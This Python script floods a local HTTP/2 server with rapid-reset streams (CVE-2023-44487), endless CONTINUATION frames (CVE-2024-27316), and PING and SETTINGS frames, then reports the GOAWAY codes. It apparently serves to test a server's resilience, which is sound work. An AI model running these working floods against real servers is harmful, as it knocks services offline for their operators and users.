#!/usr/bin/env python3
"""Floods a server with HTTP/2 frames. Usage: frames.py PORT reset|continuation|ping|settings SECONDS

Writes frames of one kind until the time is over or the server ends the connection, and then opens the
next connection. Prints how many connections it used, how many bytes the server accepted, and how each
connection ended (the code of GOAWAY).
"""
import collections
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get(path):
    """Returns the header block of `GET path` at `http://a`, from the static table and literals (RFC 7541)."""
    return bytes([0x82, 0x86, 0x01, 1]) + b"a" + bytes([0x04, len(path)]) + path


def resets():
    """CVE-2023-44487: opens streams and resets them at once, each for another job."""
    for number in range(1 << 20):
        stream = 2 * number + 1
        block = get(b"/jobs/%d" % number)
        yield frame(1, 5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))


def continuations():
    """CVE-2024-27316 and similar ones: a header block that never ends."""
    yield frame(1, 1, 1, get(b"/jobs/x1"))
    part = frame(9, 0, 1, (b"\0\1a\x10" + b"a" * 16) * 700)
    while True:
        yield part


def pings():
    while True:
        yield frame(6, 0, 0, bytes(8)) * 500


def settings():
    while True:
        yield frame(4, 0, 0) * 500


FLOODS = {"reset": resets, "continuation": continuations, "ping": pings, "settings": settings}


def ending(client):
    """Returns the code of the GOAWAY that the server has sent, or how the connection ended."""
    client.settimeout(2)
    received = b""
    try:
        while more := client.recv(1 << 16):
            received += more
    except TimeoutError:
        return "open"
    except OSError:
        pass
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at : at + 3])
        if received[at + 3] == 7:
            return f"GOAWAY {int.from_bytes(received[at + 13 : at + 17])}"
        at += 9 + length
    return "closed"


def main():
    port, kind, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    end = time.monotonic() + seconds
    connections, taken, endings = 0, 0, collections.Counter()
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port)) as client:
            connections += 1
            client.settimeout(max(0.1, end - time.monotonic()))
            try:
                client.sendall(PREFACE + frame(4, 0, 0))
                for part in FLOODS[kind]():
                    client.sendall(part)
                    taken += len(part)
                    if time.monotonic() > end:
                        break
            except OSError:
                pass
            endings[ending(client)] += 1
    print(f"{kind}: {connections} connections, {taken / 2**20:.1f} MiB taken, {dict(endings)}")


main()
